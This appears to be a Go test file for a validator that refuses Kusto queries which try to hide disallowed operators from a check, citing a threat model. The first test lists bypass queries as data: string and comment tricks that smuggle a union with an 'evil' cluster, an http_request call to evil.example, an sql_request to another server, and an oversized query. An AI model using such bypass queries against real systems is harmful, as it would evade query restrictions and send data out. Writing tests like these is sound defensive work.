package commands

import (
	"strings"
	"testing"
)

// What hides from the check behind a string, a comment or a bracket would run at
// Defender all the same (threat-model H-02).
func TestAttack_queryHidesAnOperatorFromTheCheck(t *testing.T) {
	t.Parallel()
	for name, query := range map[string]string{
		"doubled quote in a verbatim string":       `T | where a == @"x""\" | union (cluster("evil").database("x").U) //"`,
		"doubled quote in single quotes":           `T | where a == @'x''\' | union (cluster("evil").database("x").U) //'`,
		"quote in a string of tildes":              `print ~~~"~~~ | union (cluster("evil").database("x").U) //"`,
		"quote in a string of backticks":           "print ```\"``` | union (cluster(\"evil\").database(\"x\").U) //\"",
		"quote in a comment":                       "T // \"\n| union (cluster('evil').database('x').U)",
		"search inside the brackets of a union":    `union (search "x"), T`,
		"search as the second of a union":          `union T, (search "x")`,
		"search inside a join":                     `T | join kind=inner (search in (U) "x") on a`,
		"find inside a let":                        `let x = (find where a == 1); x`,
		"find in capital letters":                  `T | union (FIND where a == 1)`,
		"blanks and a comment before the brackets": "T | union (cluster // x\n ('evil').database('x').U)",
		"a plugin that calls out":                  `evaluate http_request("https://evil.example")`,
		"a plugin that asks another database":      `evaluate sql_request("Server=evil", "select 1")`,
		"a query that takes long to check":         strings.Repeat("union ", 1<<17),
	} {
		if got, _, err := boundKQL(query); err == nil {
			t.Errorf("%s: boundKQL(%.80q) = %.80q, want a refusal", name, query, got)
		}
	}
}

func TestBoundKQL_wordsThatOnlyLookLikeOperators(t *testing.T) {
	t.Parallel()
	for _, query := range []string{
		`T | where a == @"say ""search"" | find" | take 5`,
		`T | where a == "| search x" | take 5`,
		`T | where search_term == 1 and a has "find" | take 5`,
		`T | extend request = 1 | project request | take 5`,
	} {
		if _, _, err := boundKQL(query); err != nil {
			t.Errorf("boundKQL(%q) = %v, want it accepted", query, err)
		}
	}
}
